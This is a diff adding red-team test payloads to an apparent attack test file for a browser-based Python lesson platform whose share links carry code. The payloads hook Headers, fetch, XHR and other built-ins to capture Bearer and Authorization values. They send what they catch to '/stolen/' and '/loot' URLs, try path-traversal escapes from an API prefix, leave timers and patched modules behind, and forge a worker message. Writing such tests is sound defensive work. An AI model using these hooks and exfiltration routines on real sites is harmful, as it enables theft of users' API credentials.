@@ -118,3 +118,424 @@ REPORT = r"""
 print("SEEN:" + json.dumps(sorted(seen))[::-1])
 print("TRIED:" + json.dumps(tried))
 """
+
+
+# --- the red team's five ways, and hooks on every built-in the keyed path uses (test_attacks.py) ---
+#
+# Each is Python a share link carries, put before the lesson's own exercise code (so the lesson
+# still runs and its checks can pass), %-formatted with `base` (the endpoint's base URL, which
+# the attacker is assumed to know) and `site` (the site's address, ending in "/"). Whatever looks
+# like a secret is leaked at once, three ways: printed reversed (past the output's mask of the
+# key), in a request path to the endpoint's origin and to the site, and in a request body.
+
+THIEF = r"""
+import json, os
+import js
+from urllib.parse import quote
+from pyodide.ffi import create_proxy, to_js
+
+BASE = "%(base)s"
+SITE = "%(site)s"
+ORIGIN = BASE.rsplit("/v1", 1)[0]
+seen, leaked = set(), set()
+
+def shout(method, url, body=None):
+    try:
+        request = js.XMLHttpRequest.new()
+        request.open(method, url, False)
+        request.send(body)
+    except Exception:
+        pass
+
+def leak(text):
+    if text in leaked:
+        return
+    leaked.add(text)
+    print("LOOT " + text[::-1])
+    shout("GET", ORIGIN + "/stolen/" + quote(text[::-1], safe=""))
+    shout("GET", SITE + "stolen/" + quote(text, safe=""))
+    shout("POST", BASE + "/loot", text)
+
+def note(value):
+    if isinstance(value, str) and value:
+        seen.add(value)
+        if "Bearer" in value or "uthorization" in value:
+            leak(value)
+
+def patch_http(wrap):
+    import looplab.http
+    looplab.http.request = wrap(looplab.http.request)
+    looplab.http.open_stream = wrap(looplab.http.open_stream)
+"""
+
+# 1. The headers object, read through its iterator (and every other Headers method), while the
+# lesson's live model streams (open_stream) and while Python calls send_async and open_stream itself.
+HEADERS = (
+    THIEF
+    + r"""
+import looplab_transport
+from pyodide.ffi import can_run_sync, run_sync
+
+real_entries = js.Headers.prototype.entries
+
+def read_all(this):
+    try:
+        entries = js.Reflect.apply(real_entries, this, js.Array.new())
+        while True:
+            step = entries.next()
+            if step.done:
+                break
+            note(str(step.value[0]) + ": " + str(step.value[1]))
+    except Exception:
+        pass
+
+def spy_headers(key):
+    real = js.Reflect.get(js.Headers.prototype, key)
+    def watch(this, *args):
+        read_all(this)
+        for arg in args:
+            note(str(arg))
+        return js.Reflect.apply(real, this, to_js(list(args)))
+    js.Reflect.set(js.Headers.prototype, key, create_proxy(watch, capture_this=True))
+
+for key in [js.Symbol.iterator, "entries", "forEach", "get", "has", "keys", "values", "set", "append", "getSetCookie"]:
+    spy_headers(key)
+
+if os.environ.get("LOOPLAB_MODEL") == "live" and can_run_sync():
+    for call in (looplab_transport.send_async, looplab_transport.open_stream):
+        reply = run_sync(call("GET", BASE + "/models", "{}", None, 5000))
+        if getattr(reply, "stream", None):
+            looplab_transport.close_stream(reply.stream)
+print("headers hooked")
+"""
+)
+
+# 2. What link code leaves behind: hooks on the headers, a patched looplab module and a global of
+# its own, which a later run would show.
+LEFTOVERS = (
+    HEADERS
+    + r"""
+import looplab.http
+js.self.looplabLinkWasHere = "the link's global"
+def patched(real):
+    def call(method, url, *args, **kwargs):
+        print("PATCHED BY THE LINK " + url + " " + str(getattr(js.self, "looplabLinkWasHere", "")))
+        return real(method, url, *args, **kwargs)
+    return call
+patch_http(patched)
+"""
+)
+
+# 3. Lesson 02's code from a link, which lesson 90 (the learner's own, live) reuses with mine(2):
+# it hooks the headers and calls the endpoint itself (/from-link).
+MINED = (
+    HEADERS
+    + r"""
+import looplab.http
+try:
+    looplab.http.get_json(BASE + "/from-link")
+except Exception as exc:
+    print("from-link:", exc)
+"""
+)
+
+# 4. A timer the link leaves: every 200 ms a plain request to the endpoint (/timer), no hook needed.
+TIMER = (
+    THIEF
+    + r"""
+import looplab_transport
+def tick(*_):
+    try:
+        looplab_transport.send("GET", BASE + "/timer", "{}", None, 2000)
+    except Exception:
+        pass
+js.setInterval(create_proxy(tick), 200)
+print("timer set")
+"""
+)
+
+# 5. Paths that leave the prefix on a server that decodes and normalises them, and a redirect out of
+# it (the test scripts /v1/redirect to answer 307 to /outside-redirect), by every transport
+# function; then looplab.http patched so that the lesson's own later calls go out of the prefix.
+OUTSIDE_PATHS = [
+    "/..%2Foutside-a",
+    "/..%2foutside-b",
+    "/%2e%2e%2foutside-c",
+    "/..;/outside-d",
+    "/..%5Coutside-e",
+    "/%2E%2E/outside-f",
+    "/..%252Foutside-g",
+    "/x;p=1/../../outside-h",
+    "/redirect",
+]
+PREFIX = (
+    THIEF
+    + r"""
+import looplab.http, looplab_transport
+from pyodide.ffi import can_run_sync, run_sync
+out = {}
+for path in %(paths)s:
+    url = BASE + path
+    def by_http():
+        return looplab.http.get_json(url, timeout=5)[0]
+    def by_send():
+        reply = looplab_transport.send("GET", url, "{}", None, 5000)
+        return getattr(reply, "status", None) or reply.error
+    def by_async():
+        reply = run_sync(looplab_transport.send_async("GET", url, "{}", None, 5000))
+        return getattr(reply, "status", None) or reply.error
+    def by_stream():
+        reply = run_sync(looplab_transport.open_stream("GET", url, "{}", None, 5000))
+        if getattr(reply, "stream", None):
+            looplab_transport.close_stream(reply.stream)
+        return getattr(reply, "status", None) or reply.error
+    for name, way in (("http", by_http), ("send", by_send), ("async", by_async), ("stream", by_stream)):
+        if name in ("async", "stream") and not can_run_sync():
+            continue
+        try:
+            out[path + " " + name] = str(way())
+        except Exception as exc:
+            out[path + " " + name] = type(exc).__name__
+print("PREFIX " + json.dumps(out))
+def rerouted(real):
+    def call(method, url, *args, **kwargs):
+        return real(method, url.replace("/v1/chat/completions", "/v1/..%%2Foutside-i/chat/completions"), *args, **kwargs)
+    return call
+patch_http(rerouted)
+"""
+)
+
+# Hooks from Python on every method of the keyed path's built-ins that Python can replace: Headers,
+# Request, URL, String, Array, Object, Promise, JSON, TextEncoder, Uint8Array (and fetch, XHR).
+# A method Pyodide itself calls on its way into Python cannot be replaced by a Python function (the
+# replacement recurses before any Python runs: the worker dies), so those are left to HOOKS_JS.
+PY_HOOKS = (
+    THIEF
+    + r"""
+# what a live call imports, imported first: with String's methods hooked every file Python looks for
+# costs hundreds of calls into Python, and the attacker wants the live call itself watched
+import hashlib, platform, uuid
+import looplab.http, looplab.sse, looplab_transport
+import looplab.models.chat, looplab.models.endpoint, looplab.models.limits, looplab.models.live
+import looplab.models.prompted, looplab.models.responses, looplab.models.stream
+busy = [False]
+entries_of = js.Headers.prototype.entries
+kind_of = js.Object.prototype.toString
+
+def look(value):
+    if isinstance(value, str):
+        note(value)
+    elif value is not None and not isinstance(value, (int, float, bool)):
+        try:
+            if kind_of.call(value) == "[object Headers]":  # every entry of a Headers object
+                entries = js.Reflect.apply(entries_of, value, js.Array.new())
+                for step in iter(entries.next, None):
+                    if step.done:
+                        break
+                    note(str(step.value[0]) + ": " + str(step.value[1]))
+        except Exception:
+            pass
+
+def hook(owner, key, where):
+    key = js.Symbol.iterator if key == "@@iterator" else key
+    try:
+        real = js.Reflect.get(owner, key)
+    except Exception:
+        return
+    def watch(this, *args):
+        if not busy[0]:
+            busy[0] = True
+            try:
+                look(this)
+                for arg in args:
+                    look(arg)
+            finally:
+                busy[0] = False
+        return js.Reflect.apply(real, this, to_js(list(args)))
+    try:
+        if js.Reflect.set(owner, key, create_proxy(watch, capture_this=True)):
+            hooked.append(where)
+        else:
+            missed.append(where)
+    except Exception as exc:
+        missed.append(where + " " + type(exc).__name__)
+
+hooked, missed = [], []
+for owner, keys in %(targets)s:
+    for key in keys:
+        hook(eval(owner), key, owner + "." + key)
+print("hooked %%d built-ins from Python" %% len(hooked))
+print("not hooked: " + (", ".join(missed) or "none"))
+"""
+)
+
+# Hooks in JavaScript, made from Python's text where the worker has no policy against text as code
+# (a host that sends none, with no service worker): every function and accessor of the built-ins
+# the keyed path uses and of fetch and XHR, getters on Object.prototype for the names a request's
+# options have, setters on Array.prototype's first indexes. Each sees `this`, its arguments and
+# what it returns (strings, and the string properties of objects, one level down); what they saw
+# is in `self.looplabSeen`, which Python reads (and leaks) after the run's code.
+HOOKS_JS = r"""
+const seen = (self.looplabSeen = new Set());
+const R = Reflect;
+const { apply, construct, ownKeys } = R;
+const describe = Object.getOwnPropertyDescriptor;
+const define = Object.defineProperty;
+const entriesOf = Headers.prototype.entries;
+const HeadersClass = Headers;
+const { isView } = ArrayBuffer;
+const { isArray } = Array;
+const Buffer = ArrayBuffer;
+const BASE = "__BASE__";
+const SITE = "__SITE__";
+const XHR = XMLHttpRequest;
+const { open: OPEN, send: SEND } = XHR.prototype;
+const leaked = new Set();
+function leak(text) {
+  if (leaked.has(text)) return;
+  leaked.add(text);
+  const reversed = Array.from(text).reverse().join("");
+  const ways = [["GET", BASE.split("/v1")[0] + "/stolen/" + encodeURIComponent(reversed), null],
+    ["GET", SITE + "stolen/" + encodeURIComponent(text), null], ["POST", BASE + "/loot", text]];
+  for (const [method, url, body] of ways) {
+    try {
+      const request = new XHR();
+      apply(OPEN, request, [method, url, false]);
+      apply(SEND, request, [body]);
+    } catch {}
+  }
+}
+let busy = false;
+function look(value, depth) {
+  if (typeof value === "string") {
+    if (value.length >= 4 && value.length < 4000 && seen.size < 100000) seen.add(value);
+    if (value.includes("Bearer") || value.includes("uthorization")) leak(value);
+    return;
+  }
+  if (depth > 1 || value === null || (typeof value !== "object" && typeof value !== "function")) return;
+  try {
+    if (isView(value) || value instanceof Buffer) return; // (Python's heap among them: 30 MB of indexes)
+    if (value instanceof HeadersClass) {
+      const it = apply(entriesOf, value, []);
+      for (let step = it.next(); !step.done; step = it.next()) look(step.value[0] + ": " + step.value[1], 2);
+    }
+    if (isArray(value)) {
+      for (let i = 0; i < value.length && i < 50; i++) look(value[i], depth + 1);
+      return;
+    }
+    const keys = ownKeys(value);
+    for (let i = 0; i < keys.length && i < 50; i++) {
+      if (typeof keys[i] !== "string") continue;
+      const d = describe(value, keys[i]);
+      if (d && "value" in d) look(d.value, depth + 1);
+    }
+  } catch {}
+}
+function seeing(self_, args, out) {
+  if (busy) return;
+  busy = true;
+  try {
+    look(self_, 0);
+    for (let i = 0; i < args.length; i++) look(args[i], 0);
+    look(out, 0);
+  } finally {
+    busy = false;
+  }
+}
+let count = 0;
+function wrap(owner, key) {
+  const d = describe(owner, key);
+  if (!d || !d.configurable) return;
+  if (typeof d.value === "function" && key !== "constructor") {
+    const real = d.value;
+    const hook = function (...args) {
+      const out = new.target ? construct(real, args, new.target) : apply(real, this, args);
+      seeing(this, args, out);
+      return out;
+    };
+    try { define(hook, "prototype", { value: real.prototype }); } catch {}
+    define(owner, key, { value: hook, writable: d.writable, enumerable: d.enumerable, configurable: true });
+    count++;
+  } else if (d.get || d.set) {
+    const { get, set } = d;
+    define(owner, key, {
+      get: get && function () { const out = apply(get, this, []); seeing(this, [], out); return out; },
+      set: set && function (v) { seeing(this, [v], undefined); return apply(set, this, [v]); },
+      enumerable: d.enumerable,
+      configurable: true,
+    });
+    count++;
+  }
+}
+const TypedArray = Object.getPrototypeOf(Uint8Array);
+const owners = [Headers, Request, Response, URL, String, Array, Object, Promise, JSON, TextEncoder, TextDecoder,
+  Uint8Array, TypedArray, ArrayBuffer, XMLHttpRequest, AbortController, AbortSignal, ReadableStream, Function];
+for (const owner of owners) {
+  for (const key of ownKeys(owner)) wrap(owner, key);
+  if (owner.prototype) for (const key of ownKeys(owner.prototype)) wrap(owner.prototype, key);
+}
+for (const key of ["fetch", "Headers", "Request", "XMLHttpRequest"]) {
+  const real = self[key];
+  self[key] = new Proxy(real, {
+    apply(target, self_, args) { const out = apply(target, self_, args); seeing(self_, args, out); return out; },
+    construct(target, args, newTarget) { const out = construct(target, args, newTarget); seeing(null, args, out); return out; },
+  });
+  count++;
+}
+for (const name of ["headers", "Authorization", "authorization", "body", "method", "redirect", "signal", "credentials",
+  "key", "apiKey", "then"]) {
+  define(Object.prototype, name, {
+    get() { seeing(this, [], undefined); return undefined; },
+    set(v) { seeing(this, [v], undefined); define(this, name, { value: v, writable: true, enumerable: true, configurable: true }); },
+    configurable: true,
+  });
+  count++;
+}
+for (let i = 0; i < 4; i++) {
+  define(Array.prototype, String(i), {
+    get() { return undefined; },
+    set(v) { seeing(this, [v], undefined); define(this, String(i), { value: v, writable: true, enumerable: true, configurable: true }); },
+    configurable: true,
+  });
+  count++;
+}
+return count;
+"""
+
+JS_HOOKS = (
+    THIEF
+    + r"""
+try:
+    count = js.Function(%(source)r)()
+    print("hooked %%d built-ins in JavaScript" %% count)
+except Exception as exc:
+    print("NO TEXT AS CODE HERE: " + type(exc).__name__)
+"""
+)
+
+# What the JavaScript hooks saw, read by Python and leaked: its own code, run after the lesson's.
+JS_HOOKS_REPORT = r"""
+looted = getattr(js.self, "looplabSeen", None)
+if looted is not None:
+    looted = [str(text) for text in getattr(js.Array, "from")(looted)]  # (leaking adds to the set: read it once)
+    for text in looted:
+        note(text)
+    print("JS HOOKS SAW %d strings" % len(looted))
+"""
+
+# The page's trust in its workers' `kept` message: a forged one, with a Module and a "snapshot"
+# of the link's own, posted from Python as the worker would post it.
+FORGED_KEPT = (
+    THIEF
+    + r"""
+module = js.WebAssembly.Module.new(to_js(bytes(b"\0asm\x01\0\0\0")))
+snapshot = js.Uint8Array.new(4096)
+js.self.postMessage(js.Object.fromEntries(to_js([["type", "kept"], ["module", module], ["snapshot", snapshot]])))
+print("forged kept posted")
+"""
+)
+
+# Last, after the lesson's code: everything the link's Python could read, reversed.
+SEEN = r"""
+print("SEEN:" + json.dumps(sorted(seen))[::-1])
+"""
